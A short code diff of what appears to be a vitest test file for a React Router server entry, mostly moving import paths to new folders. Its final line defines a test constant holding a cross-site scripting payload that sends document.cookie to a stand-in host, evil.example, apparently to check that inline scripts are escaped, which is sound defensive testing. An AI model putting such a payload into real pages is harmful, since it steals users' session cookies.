@@ -9,10 +9,10 @@ import {
   type ServerBuild,
 } from 'react-router'
 import { expect, test } from 'vitest'
-import { createLog } from '#platform/log.ts'
-import { requestScope } from '#platform/request-scope.ts'
+import { createLog } from '#platform/observe/log.ts'
+import { requestScope } from '#platform/observe/request-scope.ts'
 import * as entry from './entry.server.tsx'
-import { clientContext, type Services, servicesContext } from './http/context.ts'
+import { clientContext, type Services, servicesContext } from './request/context.ts'
 import { InlineScript } from './ui/inline-script.tsx'
 
 const STOLEN = 'fetch("//evil.example/" + document.cookie)'
